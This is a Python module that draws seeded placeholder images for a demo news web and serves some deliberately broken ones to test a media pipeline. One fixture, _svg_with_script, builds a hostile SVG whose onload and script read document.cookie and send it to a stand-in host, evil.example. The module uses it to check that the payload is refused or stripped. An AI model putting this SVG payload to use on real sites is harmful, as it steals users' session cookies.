"""Pictures for the demo web, drawn with Pillow from a seed, plus a few broken on purpose.

Every outlet that uses a photo gets the same drawing, resized and re-encoded to its own width and
format, so a perceptual hash links the copies the way it links a real agency photo across sites.
"""

from __future__ import annotations

import io
import zlib
from dataclasses import dataclass
from functools import lru_cache

import numpy as np
from PIL import Image, ImageDraw, ImageFont

from .model import ImageUse

_BASE_WIDTH = 1600
_CONTENT_TYPES = {"jpeg": "image/jpeg", "png": "image/png", "webp": "image/webp"}


@dataclass(frozen=True)
class ImageResponse:
    content_type: str
    body: bytes


def image_response(image: ImageUse) -> ImageResponse:
    if image.bad == "html_as_jpeg":
        # A CDN error page served with the image's content type, as misconfigured sites do.
        page = "<!DOCTYPE html><html><head><title>403 Forbidden</title></head><body><h1>Access denied</h1></body></html>"
        return ImageResponse("image/jpeg", page.encode())
    if image.bad == "truncated_jpeg":
        whole = encoded_image(image.photo, image.width, "jpeg")
        return ImageResponse("image/jpeg", whole[: len(whole) * 2 // 5])
    if image.bad == "svg_script":
        return ImageResponse("image/svg+xml", _svg_with_script(image.photo).encode())
    return ImageResponse(_CONTENT_TYPES[image.fmt], encoded_image(image.photo, image.width, image.fmt))


@lru_cache(maxsize=256)
def encoded_image(photo: str, width: int, fmt: str) -> bytes:
    picture = _drawn_photo(photo)
    height = round(picture.height * width / picture.width)
    resized = picture if width == picture.width else picture.resize((width, height), Image.Resampling.BILINEAR, reducing_gap=2.0)
    out = io.BytesIO()
    if fmt == "jpeg":
        resized.save(out, "JPEG", quality=82, optimize=False)
    elif fmt == "webp":
        resized.save(out, "WEBP", quality=80, method=0)
    else:
        resized.save(out, "PNG", compress_level=1)
    return out.getvalue()


@lru_cache(maxsize=64)
def outlet_icon(name: str) -> bytes:
    """The outlet's site icon (its <link rel="icon">): a mark of its own in its own colour (a letter would
    need a font with Cyrillic, which a fresh machine may not have)."""
    seed = zlib.crc32(name.encode())
    colour = (60 + seed % 160, 60 + (seed >> 8) % 160, 60 + (seed >> 16) % 160)
    icon = Image.new("RGB", (64, 64), colour)
    draw = ImageDraw.Draw(icon)
    inset = 10 + (seed >> 24) % 8
    if seed & 1:
        draw.ellipse((inset, inset, 63 - inset, 63 - inset), fill=(255, 255, 255))
    else:
        draw.rectangle((inset, inset, 63 - inset, 63 - inset), outline=(255, 255, 255), width=8)
    out = io.BytesIO()
    icon.save(out, "PNG")
    return out.getvalue()


@lru_cache(maxsize=64)
def _drawn_photo(photo: str) -> Image.Image:
    """A deterministic 'photo': a two-colour gradient, a horizon, shapes and the photo's name."""
    rng = np.random.default_rng(zlib.crc32(photo.encode()))
    height = int(rng.integers(900, 1100))
    top, bottom = rng.integers(20, 236, size=(2, 3))
    ramp = np.linspace(0.0, 1.0, height)[:, None, None]
    column = (top * (1 - ramp) + bottom * ramp).astype(np.uint8)
    pixels = np.broadcast_to(column, (height, _BASE_WIDTH, 3)).copy()
    picture = Image.fromarray(pixels, "RGB")
    draw = ImageDraw.Draw(picture)
    horizon = int(rng.integers(height // 3, 2 * height // 3))
    ground = tuple(int(c) for c in rng.integers(10, 120, size=3))
    draw.polygon(_hills(rng, horizon, height), fill=ground)
    for _ in range(int(rng.integers(5, 10))):
        x, y = int(rng.integers(0, _BASE_WIDTH)), int(rng.integers(0, height))
        size = int(rng.integers(60, 320))
        colour = tuple(int(c) for c in rng.integers(0, 256, size=3))
        if rng.random() < 0.5:
            draw.ellipse((x, y, x + size, y + size), fill=colour)
        else:
            draw.rectangle((x, y, x + size, y + size // 2), fill=colour)
    font = ImageFont.load_default(size=64)
    draw.text((60, height - 120), photo, fill=(255, 255, 255), font=font, stroke_width=3, stroke_fill=(0, 0, 0))
    return picture


def _hills(rng: np.random.Generator, horizon: int, height: int) -> list[tuple[int, int]]:
    steps = np.linspace(0, _BASE_WIDTH, 9)
    ridge = [(int(x), int(horizon + rng.integers(-80, 80))) for x in steps]
    return [(0, height), *ridge, (_BASE_WIDTH, height)]


def _svg_with_script(photo: str) -> str:
    # Hostile SVG: the media step must refuse it (or strip it) and never serve it as is.
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800" onload="alert(document.cookie)">'
        f'<rect width="1200" height="800" fill="#2a6f97"/><text x="40" y="760" font-size="48" fill="#fff">{photo}</text>'
        "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script></svg>"
    )
